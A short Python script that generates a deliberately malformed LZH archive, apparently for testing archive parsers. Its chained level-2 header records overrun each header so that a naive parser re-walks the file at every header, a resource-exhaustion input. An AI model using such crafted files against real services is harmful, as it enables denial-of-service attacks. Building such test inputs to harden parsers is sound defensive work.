#!/usr/bin/env python3
"""Writes a hostile LZH archive of level-2 headers of 27 bytes, each with one
extended record whose size (27) reaches past its own header into the next
one's record: a chain that runs through every later header to the last,
which ends it. A walk that follows a chain past its header's size re-walks
the rest of the file at every header.

usage: gen_lzh_chained.py OUT --headers N
"""
import argparse
import struct

HEADER = 27          # H: 24 fixed bytes, one record's size field and type
RECORD_TYPE = 0x7F   # a type no reader gives a meaning


def level2_header(size, first_record):
    # size, method, packed, original, time, attribute, level, CRC-16, OS
    return struct.pack("<H5sIIIBBHB", size, b"-lh0-", 0, 1, 0, 0x20, 2, 0, ord("U")) + first_record


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--headers", type=int, required=True)
    a = ap.parse_args()
    with open(a.out, "wb") as f:
        for _ in range(a.headers - 1):
            f.write(level2_header(HEADER, struct.pack("<HB", HEADER, RECORD_TYPE)))
        f.write(level2_header(HEADER - 1, struct.pack("<H", 0)))  # the chain's end
        f.write(b"\0")


if __name__ == "__main__":
    main()
